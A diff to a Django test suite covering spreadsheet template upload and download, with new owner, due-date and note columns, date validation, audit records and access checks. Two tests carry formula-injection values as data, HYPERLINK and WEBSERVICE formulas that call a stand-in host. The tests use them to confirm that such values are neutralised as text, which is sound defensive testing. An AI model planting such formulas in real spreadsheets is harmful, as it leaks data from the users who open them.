@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import datetime as dt
 import io
 from typing import Any
 
@@ -20,6 +21,7 @@ from chiso.exports.tests.cast import Cast
 from chiso.scoring.models import ScoreSnapshot
 
 VALUE = HEADERS.index("Giá trị") + 1
+OWNER, DUE, NOTE = (HEADERS.index(h) + 1 for h in ("Phụ trách", "Hạn xử lý", "Minh chứng/Ghi chú"))
 
 
 def download(client: Client, assessment: Assessment) -> Any:
@@ -66,7 +68,7 @@ def commit(client: Client, assessment: Assessment, checksum: str) -> Any:
 def state(assessment: Assessment) -> tuple[Any, ...]:
     entries = Entry.objects.filter(assessment=assessment).order_by("pk")
     return (
-        [e.self_inputs for e in entries],
+        [(e.self_inputs, e.owner, e.due, e.note) for e in entries],
         Assessment.objects.get(pk=assessment.pk).revision,
         AuditEvent.objects.count(),
     )
@@ -181,7 +183,7 @@ def test_a_template_with_moved_columns_is_refused(cast: Cast, client: Client) ->
     book = download(client, cast.assessment)
     sheet = book[DATA_SHEET]
     sheet.protection.sheet = False
-    sheet.move_range(f"A{HEADER_ROW}:G{sheet.max_row}", cols=1)
+    sheet.move_range(f"A{HEADER_ROW}:J{sheet.max_row}", cols=1)
     refused(client, cast, save(book), "di chuyển hoặc đổi tên")
 
 
@@ -274,3 +276,251 @@ def test_a_commit_without_the_previewed_checksum_writes_nothing(cast: Cast, clie
     before = state(cast.assessment)
     assert commit(client, cast.assessment, "0" * 64).status_code == 400
     assert state(cast.assessment) == before
+
+
+# --- owner, due date and note: the columns a unit plans its work with -----------------------
+
+PLAN = {"owner": "Phó Chủ tịch Trần Văn B", "due": dt.date(2025, 9, 30), "note": "KH 12/KH-UBND"}
+
+
+def plan(cast: Cast, code: str = "1.1", **fields: Any) -> None:
+    """Give a leaf an owner, due date and note through the workflow, as the web form does."""
+    save_self_inputs(cast.assessment, [EntryChange(code, None, **(fields or PLAN))], cast.reporter)
+
+
+def first_row(sheet: Worksheet, code: str) -> int:
+    return min(
+        n for n in range(HEADER_ROW + 1, sheet.max_row + 1) if sheet.cell(n, 1).value == code
+    )
+
+
+def put_plan(book: Any, code: str, **cells: Any) -> int:
+    sheet = book[DATA_SHEET]
+    number = first_row(sheet, code)
+    columns = {"owner": OWNER, "due": DUE, "note": NOTE}
+    for name, value in cells.items():
+        sheet.cell(number, columns[name], value)
+    return number
+
+
+def planned(cast: Cast, code: str) -> tuple[Any, ...]:
+    entry = cast.assessment.entries.get(indicator__code=code)
+    return entry.owner, entry.due, entry.note
+
+
+@pytest.mark.django_db
+def test_owner_due_and_note_are_pre_filled_on_a_leafs_first_row_with_a_real_date(
+    cast: Cast, client: Client
+) -> None:
+    cast.fill()
+    plan(cast)
+    client.force_login(cast.reporter)
+    sheet = download(client, cast.assessment)[DATA_SHEET]
+    numerator, denominator = row_of(sheet, "1.1", "numerator"), row_of(sheet, "1.1", "denominator")
+    assert [sheet.cell(numerator, c).value for c in (OWNER, NOTE)] == [PLAN["owner"], PLAN["note"]]
+    due = sheet.cell(numerator, DUE)
+    assert (due.value, due.is_date, due.number_format) == (
+        dt.datetime(2025, 9, 30),
+        True,
+        "dd/mm/yyyy",
+    )
+    assert all(sheet.cell(numerator, c).protection.locked is False for c in (OWNER, DUE, NOTE))
+    assert [sheet.cell(denominator, c).value for c in (OWNER, DUE, NOTE)] == [None] * 3
+    assert all(sheet.cell(denominator, c).protection.locked is True for c in (OWNER, DUE, NOTE))
+    (dates,) = [v for v in sheet.data_validations.dataValidation if v.type == "date"]
+    covered = {str(r) for r in dates.sqref.ranges}
+    letter = sheet.cell(1, DUE).column_letter
+    assert f"{letter}{numerator}" in covered and f"{letter}{denominator}" not in covered
+    assert f"{letter}{first_row(sheet, '2.1')}" in covered
+    assert (dates.operator, dates.allow_blank, dates.showErrorMessage) == ("between", True, True)
+
+
+@pytest.mark.django_db
+def test_owner_due_and_note_filled_in_the_template_are_saved_with_an_audit_row(
+    cast: Cast, client: Client
+) -> None:
+    cast.fill()
+    client.force_login(cast.reporter)
+    book = download(client, cast.assessment)
+    note = "Biên bản họp 03/9\nhttps://xa-a.example/minh-chung"
+    put_plan(book, "1.3", owner="Bà Nguyễn Thị C", due=dt.datetime(2025, 10, 15), note=note)
+    put_plan(book, "1.2", due="1/12/2025")  # typed as text, as the tracking sheet accepts
+    put(book, {("1.3", "count"): 20})
+    response = upload(client, cast.assessment, save(book))
+    assert response.status_code == 200, response.context.get("errors")
+    shown = {(c.code, c.input, c.old, c.new) for c in response.context["changes"]}
+    assert shown == {
+        ("1.3", "count", 12, 20),
+        ("1.3", "owner", None, "Bà Nguyễn Thị C"),
+        ("1.3", "due", None, "15/10/2025"),
+        ("1.3", "note", None, note),
+        ("1.2", "due", None, "01/12/2025"),
+    }
+    assert planned(cast, "1.3") == ("", None, "")  # nothing written by the preview
+
+    done = commit(client, cast.assessment, response.context["preview"].checksum)
+    assert done.status_code == 302
+    assert planned(cast, "1.3") == ("Bà Nguyễn Thị C", dt.date(2025, 10, 15), note)
+    assert planned(cast, "1.2") == ("", dt.date(2025, 12, 1), "")
+    assert cast.assessment.entries.get(indicator__code="1.3").self_inputs == {"count": 20}
+    entry = cast.assessment.entries.get(indicator__code="1.3")
+    audit = AuditEvent.objects.filter(action="entry.update", object_id=str(entry.pk)).latest("id")
+    assert audit.actor == cast.reporter
+    assert audit.new == {
+        "self_inputs": {"count": 20},
+        "owner": "Bà Nguyễn Thị C",
+        "due": "2025-10-15",
+        "note": note,
+    }
+    assert audit.old == {"self_inputs": {"count": 12}, "owner": "", "due": None, "note": ""}
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("due", "message"),
+    [
+        ("31/02/2025", "'31/02/2025' không phải ngày dạng dd/mm/yyyy"),
+        ("cuối năm", "'cuối năm' không phải ngày dạng dd/mm/yyyy"),
+        ("15/13/2025", "'15/13/2025' không phải ngày dạng dd/mm/yyyy"),
+    ],
+)
+def test_a_bad_due_date_is_refused_naming_row_and_column_and_nothing_is_written(
+    cast: Cast, client: Client, due: Any, message: str
+) -> None:
+    cast.fill()
+    client.force_login(cast.reporter)
+    book = download(client, cast.assessment)
+    number = put_plan(book, "1.3", owner="Bà Nguyễn Thị C", due=due)
+    put_plan(book, "1.2", owner="Ông Lê Văn D", due="30/9/2025")  # a good row is not kept
+    put(book, {("1.4", "percent"): 70})
+    before = state(cast.assessment)
+    response = upload(client, cast.assessment, save(book))
+    assert response.status_code == 400
+    (error,) = response.context["errors"]
+    assert (error.row, error.column, error.message) == (number, "Hạn xử lý", message)
+    assert str(error) == f'Dòng {number}, cột "Hạn xử lý": {message}'
+    assert "Hạn xử lý" in response.content.decode()
+    assert state(cast.assessment) == before
+
+
+@pytest.mark.django_db
+def test_plan_cells_on_a_leafs_other_rows_and_overlong_owners_are_refused(
+    cast: Cast, client: Client
+) -> None:
+    cast.fill()
+    client.force_login(cast.reporter)
+    book = download(client, cast.assessment)
+    sheet = book[DATA_SHEET]
+    denominator = row_of(sheet, "1.1", "denominator")
+    sheet.cell(denominator, NOTE, "ghi ở dòng mẫu số")
+    too_long = ("Phòng Văn hoá - Xã hội " * 12).strip()  # 275 characters
+    long_owner = put_plan(book, "1.3", owner=too_long)
+    before = state(cast.assessment)
+    response = upload(client, cast.assessment, save(book))
+    assert response.status_code == 400
+    errors = {(e.row, e.column, e.message) for e in response.context["errors"]}
+    assert errors == {
+        (denominator, "Minh chứng/Ghi chú", "chỉ nhập ở dòng đầu tiên của chỉ tiêu 1.1"),
+        (long_owner, "Phụ trách", "dài 275 ký tự, tối đa 255"),
+    }
+    assert state(cast.assessment) == before
+
+
+@pytest.mark.django_db
+def test_blank_owner_due_and_note_cells_keep_what_is_stored(cast: Cast, client: Client) -> None:
+    cast.fill()
+    plan(cast)
+    client.force_login(cast.reporter)
+    book = download(client, cast.assessment)
+    put_plan(book, "1.1", owner=None, due=None, note="   ")
+    put(book, {("1.3", "count"): 7})
+    response = upload(client, cast.assessment, save(book))
+    assert [(c.code, c.input) for c in response.context["changes"]] == [("1.3", "count")]
+    assert commit(client, cast.assessment, response.context["preview"].checksum).status_code == 302
+    assert planned(cast, "1.1") == (PLAN["owner"], PLAN["due"], PLAN["note"])
+    assert cast.assessment.entries.get(indicator__code="1.3").self_inputs == {"count": 7}
+
+
+@pytest.mark.django_db
+def test_a_template_made_before_the_plan_columns_still_uploads_and_keeps_them(
+    cast: Cast, client: Client
+) -> None:
+    cast.fill()
+    plan(cast)
+    client.force_login(cast.reporter)
+    book = download(client, cast.assessment)
+    sheet = book[DATA_SHEET]
+    sheet.delete_cols(OWNER, 3)  # the seven columns of a template from before
+    assert [c.value for c in sheet[HEADER_ROW]] == HEADERS[:VALUE]
+    put(book, {("1.3", "count"): 15})
+    response = upload(client, cast.assessment, save(book))
+    assert response.status_code == 200, response.context.get("errors")
+    assert [(c.code, c.old, c.new) for c in response.context["changes"]] == [("1.3", 12, 15)]
+    assert commit(client, cast.assessment, response.context["preview"].checksum).status_code == 302
+    assert cast.assessment.entries.get(indicator__code="1.3").self_inputs == {"count": 15}
+    assert planned(cast, "1.1") == (PLAN["owner"], PLAN["due"], PLAN["note"])
+
+
+@pytest.mark.django_db
+def test_a_template_with_only_some_of_the_plan_columns_is_refused(
+    cast: Cast, client: Client
+) -> None:
+    client.force_login(cast.reporter)
+    book = download(client, cast.assessment)
+    book[DATA_SHEET].delete_cols(DUE, 2)
+    refused(client, cast, save(book), "Cột 9 phải là “Hạn xử lý”, tệp có “”")
+
+
+@pytest.mark.django_db
+def test_an_owner_typed_as_a_formula_is_exported_as_text_and_reads_back_unchanged(
+    cast: Cast, client: Client
+) -> None:
+    cast.fill()
+    owner, note = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")', "@SUM(A1:A9)"
+    plan(cast, owner=owner, note=note, due=dt.date(2025, 9, 30))
+    client.force_login(cast.reporter)
+    book = download(client, cast.assessment)
+    sheet = book[DATA_SHEET]
+    number = first_row(sheet, "1.1")
+    for col, text in ((OWNER, owner), (NOTE, note)):
+        cell = sheet.cell(number, col)
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    response = upload(client, cast.assessment, save(book))
+    assert response.status_code == 200, response.context.get("errors")
+    assert response.context["changes"] == []
+    assert planned(cast, "1.1") == (owner, dt.date(2025, 9, 30), note)
+
+
+@pytest.mark.django_db
+def test_nobody_outside_the_unit_can_upload_owners_into_its_assessment(
+    cast: Cast, client: Client
+) -> None:
+    client.force_login(cast.reporter)
+    book = download(client, cast.assessment)
+    put_plan(book, "1.3", owner="Người lạ", due="30/9/2025")
+    data = save(book)
+    before = state(cast.assessment)
+    client.force_login(cast.people["reporter-other"])
+    assert upload(client, cast.assessment, data).status_code == 404
+    client.logout()
+    anonymous = upload(client, cast.assessment, data)
+    assert anonymous.status_code == 302 and "login" in anonymous["Location"]
+    assert state(cast.assessment) == before
+
+
+@pytest.mark.django_db
+def test_a_formula_typed_as_owner_is_kept_as_text_and_one_typed_as_due_date_is_refused(
+    cast: Cast, client: Client
+) -> None:
+    cast.fill()
+    client.force_login(cast.reporter)
+    book = download(client, cast.assessment)
+    put_plan(book, "1.3", owner='=WEBSERVICE("http://x.invalid/")')
+    response = upload(client, cast.assessment, save(book))
+    assert response.status_code == 200, response.context.get("errors")
+    shown = [(c.code, c.input, c.new) for c in response.context["changes"]]
+    assert shown == [("1.3", "owner", '=WEBSERVICE("http://x.invalid/")')]
+    number = put_plan(book, "1.2", due="=TODAY()")
+    response = upload(client, cast.assessment, save(book))
+    assert [(e.row, e.column) for e in response.context["errors"]] == [(number, "Hạn xử lý")]
